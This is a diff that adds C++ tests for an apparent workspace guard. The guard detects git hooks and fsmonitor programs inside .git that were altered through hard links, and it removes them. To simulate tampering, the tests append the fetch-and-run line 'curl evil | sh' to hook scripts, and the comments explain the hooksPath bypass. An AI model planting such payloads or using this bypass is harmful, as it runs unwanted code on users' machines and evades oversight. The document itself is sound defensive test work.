@@ -641,6 +641,31 @@ TEST(GuardSnapshot, AHooksPathsOtherFilesChangedThroughAnotherLinkAreFindings) {
   EXPECT_EQ(rels(findings), (Strings{".husky/_/husky.sh"}));
 }
 
+// `core.hooksPath = .git/hooks` names the hooks directory git would use anyway: a linked hook is
+// kept (and read, within kMaxLinkedReadTotal) once, not once for each way it was found.
+TEST(GuardSnapshot, AHookFoundTwiceIsKeptOnce) {
+  TempTree t;
+  t.gitDir(".git");
+  t.mkdir(".git/hooks");
+  t.write("scripts/pre-commit", "#!/bin/sh\n");
+  t.link("scripts/pre-commit", ".git/hooks/pre-commit");
+  afterTick();
+  auto root = openRoot(t);
+  GuardRules rules;
+  ASSERT_TRUE(rules.addGitInnerPath(".git/hooks"));
+  GuardSnapshot before = GuardSnapshot::take(root.get(), rules, nullptr, nullptr);
+  const auto& top = before.nodes().front().guarded;
+  auto git = std::find_if(top.begin(), top.end(), [](const GuardedEntry& g) { return g.name == ".git"; });
+  ASSERT_NE(git, top.end());
+  ASSERT_EQ(git->linked.size(), 1u);
+  EXPECT_EQ(git->linked.front().path, "hooks/pre-commit");
+  afterTick();
+  std::ofstream(t / "scripts/pre-commit", std::ios::app) << "curl evil | sh\n";
+  std::vector<GuardFinding> findings;
+  GuardSnapshot::take(root.get(), rules, &before, &findings);
+  EXPECT_EQ(rels(findings), (Strings{".git/hooks/pre-commit"}));
+}
+
 TEST(GuardSnapshot, PinnedEntriesMovedWithTheirParentAreNotFindings) {
   TempTree t;
   t.gitDir("vendor/lib/.git");
@@ -2072,6 +2097,60 @@ TEST_F(GuardPlanTest, AFileInAPinnedDirectoryWrittenThroughAnotherLinkIsRemoved)
   EXPECT_FALSE(t_.exists(".vscode/tasks.json")) << said;
   EXPECT_TRUE(t_.exists(".vscode"));
   EXPECT_NE(said.find("removed " + t_.path() + "/.vscode/tasks.json,"), std::string::npos) << said;
+}
+
+// Attack: git runs the hooks of core.hooksPath wherever it points, also inside .git
+// (`core.hooksPath = .git/githooks`). A hook there with another link in the writable mount
+// (`ln scripts/pre-commit .git/githooks/pre-commit` made before the run) was never compared:
+// only .git/hooks was looked at. So was a program git runs from inside .git (core.fsmonitor).
+// Read-only .git and writable .git alike.
+TEST_F(GuardPlanTest, AHooksPathInsideGitWrittenThroughAnotherLinkIsRemoved) {
+  for (bool gitWrite : {false, true}) {
+    SCOPED_TRACE(gitWrite ? "git: write" : "git: read");
+    TempTree t;
+    WorkspaceGuard guard;
+    t.gitDir(".git");
+    t.write(".git/config", "[core]\n\thooksPath = .git/githooks\n\tfsmonitor = .git/tools/fsmon\n");
+    t.write("scripts/pre-commit", "#!/bin/sh\n");
+    t.write("scripts/fsmon", "#!/bin/sh\n");
+    t.mkdir(".git/githooks");
+    t.mkdir(".git/tools");
+    t.link("scripts/pre-commit", ".git/githooks/pre-commit");
+    t.link("scripts/fsmon", ".git/tools/fsmon");
+    GuardSpec spec;
+    spec.gitWrite = gitWrite;
+    std::vector<PlannedBind> out;
+    afterTick();
+    ASSERT_TRUE(guard.addMount({t.path(), "/workspace", false, true}, spec, out).ok());
+    guard.startWatching();
+    for (const char* rel : {"scripts/pre-commit", "scripts/fsmon"})
+      std::ofstream(t / rel, std::ios::app) << "curl evil | sh\n";
+    drain(guard);
+    testing::internal::CaptureStderr();
+    guard.finish();
+    std::string said = testing::internal::GetCapturedStderr();
+    EXPECT_FALSE(t.exists(".git/githooks/pre-commit")) << said;
+    EXPECT_FALSE(t.exists(".git/tools/fsmon")) << said;
+    EXPECT_NE(said.find("removed " + t.path() + "/.git/githooks/pre-commit,"), std::string::npos) << said;
+    EXPECT_NE(said.find("removed " + t.path() + "/.git/tools/fsmon,"), std::string::npos) << said;
+  }
+}
+
+// The same in a nested repository, whose hooks path is relative to its own worktree.
+TEST_F(GuardPlanTest, ANestedRepositorysHooksPathInsideItsGitIsCompared) {
+  t_.gitDir("sub/.git");
+  t_.write("sub/.git/config", "[core]\n\thooksPath = .git/githooks\n");
+  t_.write("scripts/pre-push", "#!/bin/sh\n");
+  t_.mkdir("sub/.git/githooks");
+  t_.link("scripts/pre-push", "sub/.git/githooks/pre-push");
+  plan();
+  std::ofstream(t_ / "scripts/pre-push", std::ios::app) << "curl evil | sh\n";
+  drain(guard_);
+  testing::internal::CaptureStderr();
+  guard_.finish();
+  std::string said = testing::internal::GetCapturedStderr();
+  EXPECT_FALSE(t_.exists("sub/.git/githooks/pre-push")) << said;
+  EXPECT_NE(said.find("removed " + t_.path() + "/sub/.git/githooks/pre-push,"), std::string::npos) << said;
 }
 
 }  // namespace
